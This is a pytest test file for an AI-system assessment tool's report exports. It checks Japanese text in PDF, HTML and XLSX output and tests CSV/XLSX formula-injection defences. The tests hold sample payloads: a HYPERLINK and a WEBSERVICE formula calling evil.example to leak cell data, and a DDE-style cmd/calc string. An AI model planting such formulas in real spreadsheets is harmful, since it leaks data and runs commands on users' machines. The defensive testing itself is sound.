"""Assessment reports: Japanese text survives into PDF, XLSX has the answers and views."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from tekisei.core.assessments import AnswerFields, AnswerState
from tekisei.core.orgs import OrgActor, OrgCreate, Principal
from tekisei.core.risks import RiskFields
from tekisei.core.systems import SystemFacts
from tekisei.errors import InvalidInputError, NotFoundError
from tekisei.services import assessments, orgs, reports, risks, systems
from tekisei.services.database import Database
from tests.conftest import skip_or_fail
from tests.render.test_sheets import assert_csv_safe, assert_text_only


@pytest.fixture
def assessed(loaded_db: Database) -> tuple[Database, Principal, int]:
    with loaded_db.transaction() as session:
        orgs.create_org(
            session, OrgCreate(name="Acme", slug="acme", actors=[OrgActor.BUSINESS]), "cli"
        )
        admin = orgs.cli_principal(session, "acme")
        facts = SystemFacts.model_validate(
            {"name": "画像生成サービス", "org_role": "provider", "domain": "content_generation"}
        )
        system_id = systems.register_system(session, admin, facts).id
        row = assessments.start_assessment(session, admin, system_id)
        assessments.answer_requirement(
            session,
            admin,
            row.id,
            "jp-ai-appropriateness-2025:2(3)",
            AnswerFields(state=AnswerState.IMPLEMENTED, notes="電子透かしを全ての画像に付与"),
        )
    return loaded_db, admin, system_id


def test_the_pdf_carries_japanese_text(assessed: tuple[Database, Principal, int]) -> None:
    db, admin, system_id = assessed
    import shutil

    if shutil.which("fc-list") is None:
        skip_or_fail("fontconfig is missing (apt-get install fonts-noto-cjk)")
    with db.reading() as session:
        found = reports.assessment_report(session, admin, system_id, "pdf", "ja")
    assert found.media_type == "application/pdf" and found.content.startswith(b"%PDF")
    pages = PdfReader(io.BytesIO(found.content)).pages
    text = "".join("".join(page.extract_text().split()) for page in pages)  # cells wrap lines
    assert "AIシステム評価報告書" in text
    assert "電子透かしを全ての画像に付与" in text
    assert "A.6.2.4" in text  # the ISO/IEC 42001 view is included


def test_html_and_xlsx_in_both_languages(assessed: tuple[Database, Principal, int]) -> None:
    db, admin, system_id = assessed
    with db.reading() as session:
        html = reports.assessment_report(session, admin, system_id, "html", "en").content
        xlsx = reports.assessment_report(
            session, admin, system_id, "xlsx", "ja", ("iso-iec-42001-2023", "nist-ai-rmf-1.0")
        ).content
        with pytest.raises(InvalidInputError):
            reports.assessment_report(session, admin, system_id, "docx")
        with pytest.raises(NotFoundError):
            reports.assessment_report(session, admin, system_id, "html", "en", ("nope-1",))
    page = html.decode("utf-8")
    assert "AI system assessment report" in page and "implemented" in page
    book = load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames[1:] == ["iso-iec-42001-2023", "nist-ai-rmf-1.0"]
    answers = book.worksheets[0]
    rows = [[c.value for c in row] for row in answers.iter_rows(min_row=5)]
    assert ["2(3)", "十分な安全性の確保", "実施済み", "電子透かしを全ての画像に付与", None] in rows


EVIL_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_an_answer_that_looks_like_a_formula_stays_text_in_the_xlsx_report(
    assessed: tuple[Database, Principal, int],
) -> None:
    db, admin, system_id = assessed
    with db.transaction() as session:
        row = assessments.current_assessment(session, admin, system_id)
        assessments.answer_requirement(
            session,
            admin,
            row.id,
            "jp-ai-appropriateness-2025:2(4)",
            AnswerFields(state=AnswerState.PARTIAL, notes=EVIL_NOTE),
        )
    with db.reading() as session:
        xlsx = reports.assessment_report(session, admin, system_id, "xlsx", "en").content
    assert_text_only(xlsx, [EVIL_NOTE])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_risk_register_export_never_writes_a_formula(
    assessed: tuple[Database, Principal, int], fmt: str
) -> None:
    db, admin, system_id = assessed
    titles = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "普通のリスク"]
    with db.transaction() as session:
        for title in titles:
            fields = RiskFields(
                title=title.strip() or "x",
                taxonomy=["social.bias"],
                likelihood=3,
                impact=4,
                treatment_plan='=WEBSERVICE("http://evil.example")',
                owner="@owner",
            )
            risks.add_risk(session, admin, system_id, fields)
    with db.reading() as session:
        found = reports.risk_register(session, admin, fmt, "ja")
        with pytest.raises(InvalidInputError):
            reports.risk_register(session, admin, "pdf", "ja")
    assert found.filename == f"risks-acme.{fmt}"
    stored = [t.strip() for t in titles]
    if fmt == "xlsx":
        assert_text_only(found.content, [*stored, "@owner"])
        sheet = load_workbook(io.BytesIO(found.content)).worksheets[0]
        assert [c.value for c in sheet[1]][:3] == ["ID", "AIシステム", "リスク名"]
        assert len(list(sheet.iter_rows())) == 1 + len(titles)
    else:
        text = found.content.decode("utf-8-sig")
        assert_csv_safe(text)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + len(titles)
        assert {r[2] for r in rows[1:]} == {"'" + t if t != "普通のリスク" else t for t in stored}
